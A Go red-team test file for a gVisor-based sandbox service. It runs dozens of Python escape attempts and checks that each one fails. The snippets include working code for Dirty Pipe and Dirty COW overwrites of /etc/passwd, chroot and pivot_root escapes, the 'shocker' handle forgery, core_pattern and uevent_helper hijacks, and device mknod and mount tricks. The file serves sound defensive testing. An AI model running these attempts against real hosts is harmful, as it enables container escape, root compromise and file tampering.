package redteam

import (
	"fmt"
	"strings"
	"testing"

	"github.com/spacesandbox/space/client"
)

// Checks of filesystem attempts.

func emptyList(k string) func(res) error {
	return func(r res) error {
		if v, ok := r[k].([]any); !ok || len(v) != 0 {
			return fmt.Errorf("%s = %v, want an empty list", k, r[k])
		}
		return nil
	}
}

func emptyStr(k string) func(res) error {
	return func(r res) error {
		if _, ok := r[k]; !ok || r.s(k) != "" {
			return fmt.Errorf("%s = %q, want empty", k, r.s(k))
		}
		return nil
	}
}

func isTrue(k string) func(res) error {
	return func(r res) error {
		if !r.b(k) {
			return fmt.Errorf("%s is %v, want true", k, r[k])
		}
		return nil
	}
}

// lacks: R[k] holds none of the strings.
func lacks(k string, bad ...string) func(res) error {
	return func(r res) error {
		v := r.s(k)
		if _, ok := r[k]; !ok {
			return fmt.Errorf("%s missing", k)
		}
		for _, b := range bad {
			if strings.Contains(v, b) {
				return fmt.Errorf("%s contains %q", k, b)
			}
		}
		return nil
	}
}

// allFailed: every value of the dict R[k] is a non-empty error.
func allFailed(k string) func(res) error {
	return func(r res) error {
		m, ok := r[k].(map[string]any)
		if !ok || len(m) == 0 {
			return fmt.Errorf("%s = %v, want a dict of errors", k, r[k])
		}
		for name, v := range m {
			if s, _ := v.(string); s == "" {
				return fmt.Errorf("%s succeeded", name)
			}
		}
		return nil
	}
}

// templateIntact: the host's template files are as they were (the check
// of the neighbour's copies is in guard).
func templateIntact(r res) error { return env.canary.checkTemplate() }

// hostPathHints are strings that only a view of the host's filesystem
// would show.
var hostPathHints = []string{"/var/lib/space", "space-redteam-", "/usr/local/lib/space", "rt-canary-"}

// canarySeen is the snippet that lists the canaries visible under prefix.
func canarySeen(prefix string) string {
	return fmt.Sprintf("R['seen'] = [p for p in CANARY_PATHS if os.path.exists(%q + p)]", prefix)
}

const gvisorFS = "gVisor: the sandbox's file tree is the sentry's (template image read-only plus its own overlay); no host path is mounted in it"

func fsAttempts() []attempt {
	return []attempt{
		{id: "fs-host-canary-open", desc: "open the host's canary files by their host paths", stops: gvisorFS,
			py: canarySeen(""), check: emptyList("seen")},
		{id: "fs-host-canary-search", desc: "search the sandbox's whole tree for the canaries' names", stops: gvisorFS,
			py: "R['found'] = find_names(['/tmp', '/var', '/root', '/home', '/run', '/mnt', '/opt', '/srv', '/etc', '/dev', '/usr/local'], CANARY_NAMES)", check: emptyStr("found")},
		{id: "fs-proc1-root", desc: "reach the host through /proc/1/root (the agent's root)", stops: "the agent is not dumpable, so /proc/1/root is closed even to root; and in gVisor /proc/1 is the sandbox's own init, whose root is the sandbox root",
			py:    canarySeen("/proc/1/root") + "\ntry:\n    R['same'] = sorted(os.listdir('/proc/1/root')) == sorted(os.listdir('/'))\nexcept PermissionError:\n    R['denied'] = True",
			check: all(emptyList("seen"), anyOf(isTrue("same"), isTrue("denied")))},
		{id: "fs-proc-self-root-dotdot", desc: "climb out through /proc/self/root/../../..", stops: gvisorFS,
			py: canarySeen("/proc/self/root/../../.."), check: emptyList("seen")},
		{id: "fs-proc-links-walk", desc: "follow every /proc/<pid>/{root,cwd,exe,fd/*} link of every process looking for host paths", stops: "gVisor: every process listed is the sandbox's own; links name sandbox paths",
			py: `
links = []
for p in os.listdir('/proc'):
    if not p.isdigit(): continue
    for l in ['root', 'cwd', 'exe'] + ['fd/' + f for f in (tryio(os.listdir, '/proc/%s/fd' % p)[0] or [])]:
        t, e = tryio(os.readlink, '/proc/%s/%s' % (p, l))
        if t: links.append(t)
R['links'] = '\n'.join(links)
R['seen'] = [c for c in CANARY_PATHS for p in os.listdir('/proc') if p.isdigit() and os.path.exists('/proc/%s/root%s' % (p, c))]
`, check: all(emptyList("seen"), lacks("links", hostPathHints...))},
		{id: "fs-proc1-exe-write", desc: "as root, append to the agent's binary through /proc/1/exe (to poison the template every sandbox shares)", stops: "gVisor overlay: writes land in this sandbox's upper layer; the host template and the neighbour's copy are checked",
			py: "R['err'] = tryio(lambda: open('/proc/1/exe', 'ab').write(b'RTPWNED'))[1]", check: templateIntact},
		{id: "fs-template-overwrite", desc: "as root, append to shared template files (/usr/bin/python3, /etc/passwd, /bin/sh)", stops: "gVisor overlay: writes land in this sandbox's upper layer; the host template and the neighbour's copy are checked",
			py: "R['errs'] = {p: tryio(lambda: open(p, 'ab').write(b'RTPWNED'))[1] for p in ('/usr/bin/python3', '/etc/passwd', '/bin/sh')}", check: templateIntact},
		{id: "fs-proc-exe-target", desc: "read where /proc/self/exe and /proc/1/exe point (a host path would leak the host layout)", stops: gvisorFS + "; the agent's /proc/1/exe is closed (not dumpable)",
			py:    "R['t'] = os.readlink('/proc/self/exe')\ntry:\n    R['t'] += ' ' + os.readlink('/proc/1/exe')\nexcept PermissionError:\n    R['agent_denied'] = True\nR['inside'] = all(os.path.exists(x) for x in R['t'].split())",
			check: all(isTrue("inside"), lacks("t", hostPathHints...))},
		{id: "fs-mountinfo", desc: "read /proc/self/mountinfo for host paths", stops: "gVisor: mount table of the sentry's own VFS",
			py: "R['mi'] = readf('/proc/self/mountinfo')", check: lacks("mi", hostPathHints...)},
		{id: "fs-proc1-mounts", desc: "read the agent's /proc/1/mounts and /proc/1/mountinfo for host paths", stops: "gVisor: mount table of the sentry's own VFS",
			py: "R['mi'] = readf('/proc/1/mounts') + readf('/proc/1/mountinfo')", check: lacks("mi", hostPathHints...)},
		{id: "fs-proc-kcore", desc: "read host kernel memory through /proc/kcore", stops: "gVisor: no /proc/kcore",
			py: "R['err'] = openerr('/proc/kcore')", check: failed},
		{id: "fs-proc-kmsg", desc: "read the host kernel log through /proc/kmsg", stops: "gVisor: no /proc/kmsg",
			py: "R['err'] = openerr('/proc/kmsg')", check: failed},
		{id: "fs-proc-kallsyms", desc: "read kernel symbol addresses from /proc/kallsyms", stops: "gVisor: no /proc/kallsyms",
			py: "R['err'] = openerr('/proc/kallsyms')", check: failed},
		{id: "fs-proc-sysrq", desc: "write to /proc/sysrq-trigger (h, harmless on a host that honoured it)", stops: "gVisor: no /proc/sysrq-trigger",
			py: "R['err'] = writeerr('/proc/sysrq-trigger', 'h')", check: failed},
		{id: "fs-proc-core-pattern", desc: "set /proc/sys/kernel/core_pattern to a pipe (host code execution on a crash)", stops: "gVisor: /proc/sys is the sentry's, read-only; host value checked after",
			py: "R['err'] = writeerr('/proc/sys/kernel/core_pattern', '|/tmp/pwn')", check: failed},
		{id: "fs-proc-modprobe", desc: "set /proc/sys/kernel/modprobe", stops: "gVisor: no such file",
			py: "R['err'] = writeerr('/proc/sys/kernel/modprobe', '/tmp/pwn')", check: failed},
		{id: "fs-proc-sys-vm", desc: "change /proc/sys/vm/overcommit_memory and drop_caches", stops: "gVisor: /proc/sys is the sentry's; host value checked after",
			py: "R['errs'] = {f: writeerr('/proc/sys/vm/' + f, v) for f, v in (('overcommit_memory', '1'), ('drop_caches', '3'))}", check: allFailed("errs")},
		{id: "fs-proc-sys-hostname", desc: "write the hostname through /proc/sys/kernel/hostname", stops: "no CAP_SYS_ADMIN; UTS namespace of the sentry; host hostname checked after",
			py: "R['err'] = writeerr('/proc/sys/kernel/hostname', 'pwned')", check: failed},
		{id: "fs-sys-kernel", desc: "reach debugfs/tracefs/securityfs under /sys/kernel", stops: "gVisor: a minimal sysfs without them",
			py: "R['found'] = [p for p in ('/sys/kernel/debug/tracing', '/sys/kernel/tracing/trace', '/sys/kernel/security/lsm', '/sys/kernel/mm', '/sys/kernel/uevent_helper') if os.path.exists(p)]", check: emptyList("found")},
		{id: "fs-sys-uevent-helper", desc: "set /sys/kernel/uevent_helper (host code execution on a uevent)", stops: "gVisor: no such file",
			py: "R['err'] = writeerr('/sys/kernel/uevent_helper', '/tmp/pwn')", check: failed},
		{id: "fs-sys-cgroup-write", desc: "raise limits and move processes by writing every file under /sys/fs/cgroup", stops: "gVisor: cgroupfs is the sentry's own (host limits checked after)",
			py: `
wrote = []
for dp, dn, fn in os.walk('/sys/fs/cgroup'):
    for f in fn:
        if f.endswith(('limit_in_bytes', '.max', 'cfs_quota_us', 'cgroup.procs', 'tasks', 'release_agent', 'notify_on_release', 'shares')):
            p = os.path.join(dp, f)
            v = '1' if 'notify' in f else ('/tmp/pwn' if 'release' in f else ('-1' if 'limit' in f or 'quota' in f else ('max' if f.endswith('.max') else str(os.getpid()))))
            if writeerr(p, v) == '' and not f in ('cgroup.procs', 'tasks'): wrote.append(p)
R['wrote'] = wrote
`, check: emptyList("wrote")},
		{id: "fs-sys-class-net", desc: "list host interfaces through /sys/class/net", stops: "gVisor: netstack shows only the sandbox's lo and eth0",
			py: "R['ifs'] = sorted(tryio(os.listdir, '/sys/class/net')[0] or [])\nR['extra'] = [i for i in R['ifs'] if i not in ('lo', 'eth0')]", check: emptyList("extra")},
		{id: "fs-sys-firmware", desc: "read firmware tables (DMI, EFI variables, ACPI)", stops: "gVisor: no /sys/firmware",
			py: "R['found'] = [p for p in ('/sys/firmware/efi', '/sys/firmware/dmi/tables/DMI', '/sys/firmware/acpi/tables', '/sys/class/dmi/id/product_uuid') if os.path.exists(p)]", check: emptyList("found")},
		{id: "fs-sys-block", desc: "find host disks under /sys/block and /sys/dev/block", stops: "gVisor: no block devices",
			py: "R['found'] = (tryio(os.listdir, '/sys/block')[0] or []) + (tryio(os.listdir, '/sys/dev/block')[0] or [])", check: emptyList("found")},
		{id: "fs-dev-mem", desc: "open /dev/mem, /dev/kmem and /dev/port", stops: "gVisor: no such devices",
			py: "R['errs'] = {p: openerr(p) for p in ('/dev/mem', '/dev/kmem', '/dev/port')}", check: allFailed("errs")},
		{id: "fs-dev-disks", desc: "open host disks (/dev/sda, vda, nvme0n1, xvda, loop0, dm-0, mapper/control)", stops: "gVisor: no block devices",
			py: "R['errs'] = {p: openerr(p) for p in ('/dev/sda', '/dev/vda', '/dev/nvme0n1', '/dev/xvda', '/dev/loop0', '/dev/dm-0', '/dev/mapper/control')}", check: allFailed("errs")},
		{id: "fs-dev-scan", desc: "scan /dev for block devices and unexpected character devices", stops: "gVisor: a fixed, minimal /dev",
			py: `
odd = []
ok = {'null', 'zero', 'full', 'random', 'urandom', 'tty', 'ptmx', 'fuse', 'net/tun'}
for dp, dn, fn in os.walk('/dev'):
    if dp.startswith('/dev/pts'): continue
    for f in fn:
        p = os.path.join(dp, f)
        st = tryio(os.lstat, p)[0]
        if st is None: continue
        if stat.S_ISBLK(st.st_mode) or (stat.S_ISCHR(st.st_mode) and p[5:] not in ok): odd.append(p)
R['odd'] = odd
`, check: emptyList("odd")},
		{id: "fs-dev-kvm-vsock", desc: "open /dev/kvm, /dev/vsock, /dev/vhost-net, /dev/vhost-vsock", stops: "gVisor: no such devices",
			py: "R['errs'] = {p: openerr(p, os.O_RDWR) for p in ('/dev/kvm', '/dev/vsock', '/dev/vhost-net', '/dev/vhost-vsock')}", check: allFailed("errs")},
		{id: "fs-mknod-block", desc: "mknod a block device 8:0 (sda) and read it", stops: "gVisor: mknod of device nodes refused; no host device behind any node",
			py: "R['err'] = tryio(os.mknod, '/tmp/rtsda', 0o600 | stat.S_IFBLK, os.makedev(8, 0))[1] or openerr('/tmp/rtsda')", check: failed},
		{id: "fs-mknod-mem", desc: "mknod /dev/mem (char 1:1) and read it", stops: "gVisor: mknod of device nodes refused; no host device behind any node",
			py: "R['err'] = tryio(os.mknod, '/tmp/rtmem', 0o600 | stat.S_IFCHR, os.makedev(1, 1))[1] or openerr('/tmp/rtmem')", check: failed},
		{id: "fs-mknod-kmsg", desc: "mknod /dev/kmsg (char 1:11) and read it", stops: "gVisor: mknod of device nodes refused",
			py: "R['err'] = tryio(os.mknod, '/tmp/rtkmsg', 0o600 | stat.S_IFCHR, os.makedev(1, 11))[1] or openerr('/tmp/rtkmsg')", check: failed},
		{id: "fs-mount-blockdev", desc: "mount a host disk (/dev/vda, ext4) at /mnt", stops: "no CAP_SYS_ADMIN; no such device",
			py: "R['err'] = mount('/dev/vda', '/mnt', 'ext4')", check: failed},
		{id: "fs-mount-proc", desc: "mount a fresh procfs as root", stops: "no CAP_SYS_ADMIN",
			py: "os.makedirs('/tmp/rtp', exist_ok=True)\nR['err'] = mount('proc', '/tmp/rtp', 'proc')", check: failed},
		{id: "fs-mount-bind-root", desc: "bind-mount / elsewhere as root", stops: "no CAP_SYS_ADMIN",
			py: "os.makedirs('/tmp/rtb', exist_ok=True)\nR['err'] = mount('/', '/tmp/rtb', None, 4096 | 16384)", check: failed},
		{id: "fs-mount-9p", desc: "mount 9p over an inherited fd (talk to the gofer directly)", stops: "no CAP_SYS_ADMIN; the gofer channel is not a guest fd",
			py: "os.makedirs('/tmp/rt9', exist_ok=True)\nR['err'] = mount('none', '/tmp/rt9', '9p', 0, 'trans=fd,rfdno=3,wfdno=3')", check: failed},
		{id: "fs-userns-proc", desc: "in a new user+mount+pid namespace, mount procfs and look for host processes", stops: "gVisor: namespaces are the sentry's; every process is the sandbox's",
			py: `
e = userns(0x20000 | 0x20000000)
if e: R['err'] = e
else:
    pid = os.fork()
    if pid == 0:
        os.makedirs('/tmp/rtup', exist_ok=True)
        e = mount('proc', '/tmp/rtup', 'proc')
        comms = [readf('/tmp/rtup/%s/comm' % p).strip() for p in os.listdir('/tmp/rtup') if p.isdigit()] if not e else []
        open('/tmp/rtup.out', 'w').write(json.dumps([e, comms])); os._exit(0)
    os.waitpid(pid, 0)
    R['err'], R['comms'] = json.load(open('/tmp/rtup.out'))
R['comms'] = ' '.join(R.get('comms', []))
`, check: lacks("comms", "runsc", "spaced", "systemd", "sshd", "containerd")},
		{id: "fs-userns-sysfs", desc: "in a new user+mount+net namespace, mount sysfs and list network interfaces", stops: "gVisor: sysfs of the sentry",
			py: `
e = userns(0x20000 | 0x40000000)
R['ifs'] = ''
if e: R['err'] = e
else:
    os.makedirs('/tmp/rtus', exist_ok=True)
    R['err'] = mount('sysfs', '/tmp/rtus', 'sysfs')
    if not R['err']: R['ifs'] = ' '.join(os.listdir('/tmp/rtus/class/net'))
`, check: lacks("ifs", "vse", "vsp", "docker", "ens", "enp", "wlan")},
		{id: "fs-userns-bind-root", desc: "in a new user+mount namespace, bind-mount / and look for the host canaries", stops: gvisorFS,
			py: `
e = userns(0x20000)
if e: R['err'] = e
else:
    os.makedirs('/tmp/rtub', exist_ok=True)
    R['err'] = mount('/', '/tmp/rtub', None, 4096 | 16384)
` + canarySeen("/tmp/rtub"), check: emptyList("seen")},
		{id: "fs-userns-tmpfs-overmount", desc: "in a new user+mount namespace, mount tmpfs over /proc and /etc, then look for host files", stops: gvisorFS,
			py: `
e = userns(0x20000)
R['err'] = e or mount('tmpfs', '/etc', 'tmpfs') or mount('tmpfs', '/proc', 'tmpfs')
` + canarySeen(""), check: emptyList("seen")},
		{id: "fs-chroot-escape", desc: "classic chroot escape: chroot into a subdirectory, fchdir to an fd kept outside, chdir .. 64 times, chroot .", stops: gvisorFS,
			py: `
os.makedirs('/tmp/rtjail/x', exist_ok=True)
fd = os.open('/', os.O_RDONLY)
os.chroot('/tmp/rtjail'); os.fchdir(fd)
for i in range(64): os.chdir('..')
os.chroot('.')
R['root'] = ' '.join(sorted(os.listdir('/')))
` + canarySeen(""), check: all(emptyList("seen"), lacks("root", "rt-canary"))},
		{id: "fs-chroot-userns-escape", desc: "chroot escape from inside a new user namespace (with all capabilities there)", stops: gvisorFS,
			py: `
R['err'] = userns(0x20000)
os.makedirs('/tmp/rtjail2/x', exist_ok=True)
fd = os.open('/', os.O_RDONLY)
os.chroot('/tmp/rtjail2'); os.fchdir(fd)
for i in range(64): os.chdir('..')
os.chroot('.')
` + canarySeen(""), check: emptyList("seen")},
		{id: "fs-pivot-root", desc: "pivot_root in a new user+mount namespace and look through the old root", stops: gvisorFS,
			py: `
e = userns(0x20000)
R['seen'] = []
if e: R['err'] = e
else:
    os.makedirs('/tmp/rtnr/old', exist_ok=True)
    R['err'] = mount('/tmp/rtnr', '/tmp/rtnr', None, 4096) or mount('tmpfs', '/tmp/rtnr', 'tmpfs')
    os.makedirs('/tmp/rtnr/old', exist_ok=True)
    os.chdir('/tmp/rtnr')
    r, e = sc(155, cstr('.'), cstr('old'))
    R['pivot'] = e
    if not e:
        R['seen'] = [p for p in CANARY_PATHS if os.path.exists('/old' + p) or os.path.exists('old' + p)]
`, check: emptyList("seen")},
		{id: "fs-open-by-handle", desc: "open_by_handle_at with a forged handle (the 'shocker' escape)", stops: "no CAP_DAC_READ_SEARCH; gVisor does not implement it",
			py: `
buf = struct.pack('II', 8, 1) + struct.pack('Q', 2)
h = ctypes.create_string_buffer(buf, len(buf))
fd = os.open('/', os.O_RDONLY)
R['ret'], R['err'] = sc(304, fd, h, 0)
`, check: failed},
		{id: "fs-name-to-handle", desc: "name_to_handle_at to learn host inode handles", stops: "gVisor: not implemented (EOPNOTSUPP/ENOSYS)",
			py: `
h = ctypes.create_string_buffer(struct.pack('II', 128, 0) + b'\0' * 128, 136)
mid = ctypes.c_int(0)
R['ret'], R['err'] = sc(303, -100, cstr('/etc/passwd'), h, ctypes.byref(mid), 0)
`, check: failed},
		{id: "fs-agent-mem", desc: "open the agent's memory /proc/1/mem for writing", stops: "no CAP_SYS_PTRACE",
			py: "R['err'] = openerr('/proc/1/mem', os.O_RDWR)", check: failed},
	}
}

// fsUserAttempts run as the unprivileged default user.
func fsUserAttempts() []attempt {
	return []attempt{
		{id: "fs-user-agent-state", desc: "as the default user, read the agent's persisted state (it holds the sandbox's access token)", stops: "file mode 0600 root in /run/space-agent",
			py: "R['err'] = openerr('/run/space-agent/state.json')", check: failed},
		{id: "fs-user-agent-environ", desc: "as the default user, read the agent's environment (/proc/1/environ)", stops: "ptrace access check: another user's process",
			py: "R['err'] = openerr('/proc/1/environ')", check: failed},
		{id: "fs-user-dirty-pipe", desc: "Dirty Pipe (CVE-2022-0847): splice a root-owned file into a pipe and overwrite it through the pipe", stops: "gVisor: its own pipe implementation; the file's content is checked",
			py: `
before = readf('/etc/passwd')
fd = os.open('/etc/passwd', os.O_RDONLY)
r, w = os.pipe()
os.write(w, b'x' * 65536); os.read(r, 65536)
off = ctypes.c_longlong(1)
libc.splice(fd, ctypes.byref(off), w, None, 1, 0)
tryio(os.write, w, b'PWNED')
R['changed'] = readf('/etc/passwd') != before
`, check: isFalse("changed")},
		{id: "fs-user-dirty-cow", desc: "Dirty COW: write a read-only private mapping of a root-owned file through /proc/self/mem", stops: "gVisor: copy-on-write in the sentry's memory manager; the file's content is checked",
			py: `
before = readf('/etc/passwd')
f = open('/etc/passwd', 'rb')
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
p = libc.mmap(None, 4096, 1, 2, f.fileno(), 0)
mf = os.open('/proc/self/mem', os.O_RDWR)
stop = []
def adv():
    while not stop: libc.madvise(ctypes.c_void_p(p), ctypes.c_size_t(4096), 4)
th = threading.Thread(target=adv); th.start()
R['err'] = ''
end = time.time() + 1
while time.time() < end:
    try: os.pwrite(mf, b'PWNED', p)
    except OSError as e: R['err'] = en(e.errno); break
stop.append(1); th.join()
R['changed'] = readf('/etc/passwd') != before
`, check: isFalse("changed")},
		{id: "fs-user-write-template", desc: "as the default user, overwrite files of the shared template image (/usr/bin/python3, /etc/passwd)", stops: "file permissions; writes of root would land in the sandbox's own overlay only",
			py: "R['errs'] = {p: writeerr(p, 'x') for p in ('/usr/bin/python3', '/etc/passwd', '/etc/shadow')}", check: allFailed("errs")},
	}
}

func TestFilesystem(t *testing.T) {
	d := need(t)
	t.Parallel()
	sb := d.NewSandbox(t, client.CreateSandboxRequest{})
	runGroup(t, d, sb.ID, "root", fsAttempts())
	runGroup(t, d, sb.ID, "user", fsUserAttempts())
}
